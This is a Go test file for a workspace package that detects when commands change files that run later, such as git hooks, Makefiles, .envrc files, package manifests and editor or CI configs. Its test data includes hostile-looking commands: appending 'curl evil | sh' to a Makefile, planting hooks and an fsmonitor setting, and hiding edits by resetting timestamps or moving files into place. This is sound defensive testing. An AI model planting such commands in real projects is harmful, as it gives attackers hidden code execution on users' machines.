//go:build unix

package workspace

import (
	"io/fs"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var hostileChanges = []hostile{
	{"98-changed", parallel(func(t *testing.T, w *Workspace) {
		put(t, w, ".git/hooks/pre-push", "old\n", ".git/hooks/pre-push.sample", "", ".git/config", "[core]\n", "Makefile", "all:\n", "src/main.c", "")
		want(t, w, "bash", `echo 'export A=1' >.envrc; echo '	curl evil | sh' >>Makefile; echo evil >.git/hooks/post-commit; echo notes >notes.txt`, "(no output)")
		wantChanges(t, w, ".envrc", "shell environment", ".git/hooks/post-commit", "git hook", "Makefile", "build file")
	})},
	{"98-changed-in-disguise", parallel(testChangedInDisguise)},
	{"98-changed-beyond-the-limit", func(t *testing.T) {
		t.Parallel()
		w := openTemp(t, withLimits(Limits{WalkEntries: 20}))
		want(t, w, "bash", "mkdir -p .a; for i in {1..30}; do echo >.a/$i; done; echo >.envrc", "(no output)")
		changes, err := w.Changed()
		assert.EqualError(t, err, "not all files that execute later could be looked at: 20 entries looked at")
		assert.Empty(t, changes)
	}},
}

// wantChanges takes paths and reasons in turn.
func wantChanges(t *testing.T, w *Workspace, pairs ...string) {
	t.Helper()
	var want []Change
	for i := 0; i < len(pairs); i += 2 {
		want = append(want, Change{pairs[i], pairs[i+1]})
	}
	got, err := w.Changed()
	require.NoError(t, err)
	assert.Equal(t, want, got)
}

// What was done to hide a change: times set back, a file moved into place, a
// directory moved into place, a link, the x bit alone, the same text written
// over a file of the same size.
func testChangedInDisguise(t *testing.T, w *Workspace) {
	put(t, w, "Makefile", "all: a\n", "setup.py", "old\n", "tool", "#!/bin/sh\n", "samples/post-merge", "evil\n", "kept/Makefile", "",
		"package.json", "{}", ".husky/pre-commit", "", "doc/package.json", "{}")
	link(t, w, "samples", "l")
	before := filepath.Join(w.dir, "Makefile")
	long := time.Now().Add(-time.Hour)
	require.NoError(t, os.Chtimes(before, long, long))
	want(t, w, "bash", `touch -r Makefile ref
printf 'all: b\n' >Makefile; touch -r ref Makefile
mv doc/package.json package.json
chmod +x tool
mkdir -p .git
mv samples .git/hooks
ln -s ../../elsewhere .vscode
mkdir sub && echo 'gitdir: ../x' >sub/.git
mkdir -p bare/objects bare/refs && touch bare/HEAD && echo '[core] fsmonitor = evil' >bare/config
rm .husky/pre-commit ref`, "(no output)")
	wantChanges(t, w, ".git/hooks/post-merge", "git hook", ".vscode", "editor setup", "Makefile", "build file", "bare/config", "git config",
		"package.json", "package file", "sub/.git", "git config", "tool", "program")
}

func TestChangedNothing(t *testing.T) {
	w := openTemp(t)
	put(t, w, "Makefile", "all:\n", "tool", "", ".git/config", "")
	wantChanges(t, w)
	put(t, w, "Makefile", "changed by the user before the first command\n")
	if hasBash {
		want(t, w, "bash", "cat Makefile >copy; touch notes; mkdir -p node_modules/.bin; echo >node_modules/.bin/x; chmod +x node_modules/.bin/x", "(no output)")
	}
	wantChanges(t, w)
	require.NoError(t, w.Close())
	_, err := w.Changed()
	assert.EqualError(t, err, "the workspace is closed")
}

func TestChangedByWriteFile(t *testing.T) {
	w := openTemp(t, func(c *Config) { c.Runner = nil })
	_, err := call(t, w, "write_file", "Makefile\nall:\n")
	require.NoError(t, err)
	wantChanges(t, w, "Makefile", "build file")
}

// Where not all could be looked at before, what is new is told by its time.
func TestCensusIncomplete(t *testing.T) {
	w := openTemp(t)
	put(t, w, "a/Makefile", "")
	info, err := os.Lstat(filepath.Join(w.dir, "a/Makefile"))
	require.NoError(t, err)
	for _, c := range []struct {
		taken   time.Time
		missing string
		want    bool
	}{
		{time.Now().Add(time.Hour), "20 entries looked at", true},
		{time.Now().Add(-time.Hour), "20 entries looked at", false},
		{time.Now().Add(time.Hour), "", false},
	} {
		before := census{taken: c.taken, missing: c.missing}
		assert.Equal(t, c.want, before.knows("a/Makefile", info))
	}
}

func TestExecuted(t *testing.T) {
	w := openTemp(t)
	for _, c := range []struct {
		mode  fs.FileMode
		why   string
		paths []string
	}{
		{0o644, "git hook", []string{".git/hooks/pre-commit", "sub/.git/hooks/x", ".git/modules/m/hooks/x", ".GIT/Hooks/x"}},
		{0o644, "git config", []string{".git/config", ".git/config.worktree", ".git/worktrees/x/config.worktree", ".git/modules/a/config",
			".git/worktrees/x/commondir", "sub/.git", ".git", ".gitconfig"}},
		{0o644, "git rebase", []string{".git/rebase-merge/git-rebase-todo", ".git/sequencer/todo"}},
		{0o755, "", []string{".git/hooks/pre-commit.sample", ".git/index", ".git/HEAD", ".git/modules/m/objects/x"}},
		{0o644, "build file", []string{"Makefile", "a/makefile", "rules.mk", "justfile", "Dockerfile", "build.gradle.kts"}},
		{0o644, "package file", []string{"package.json", "web/package.json", "setup.py", "pyproject.toml", ".npmrc", ".cargo/config.toml", "x.gemspec"}},
		{0o644, "test setup", []string{"conftest.py", "tests/conftest.py", "lib/x.pth"}},
		{0o644, "tool setup", []string{"vite.config.ts", ".eslintrc.js"}},
		{0o644, "shell environment", []string{".envrc", ".bashrc", "home/.profile", "flake.nix"}},
		{0o644, "CI", []string{".github/workflows/ci.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile"}},
		{0o644, "commit hooks", []string{".pre-commit-config.yaml", ".husky/pre-push"}},
		{0o644, "editor setup", []string{".vscode/tasks.json", ".idea/x/y.xml", ".vimrc", "a.code-workspace", ".claude/settings.json"}},
		{0o755, "program", []string{"run", "bash", "bin/tool.sh"}},
		{fs.ModeSymlink | 0o777, "editor setup", []string{".vscode"}},
		{fs.ModeSymlink | 0o777, "CI", []string{".github/workflows"}},
		{fs.ModeSymlink | 0o777, "git hook", []string{".git/hooks"}},
		{0o644, "", []string{"main.go", "README.md", "src.js", ".github/CODEOWNERS", "config", "vscode/x", "makefile.txt", "githooks/x", ".vscode"}},
		{fs.ModeSymlink | 0o777, "", []string{"link", "docs"}},
		{fs.ModeNamedPipe | 0o755, "", []string{"pipe"}},
	} {
		for _, p := range c.paths {
			assert.Equal(t, c.why, executed(p, c.mode, w.root), p)
		}
	}
}
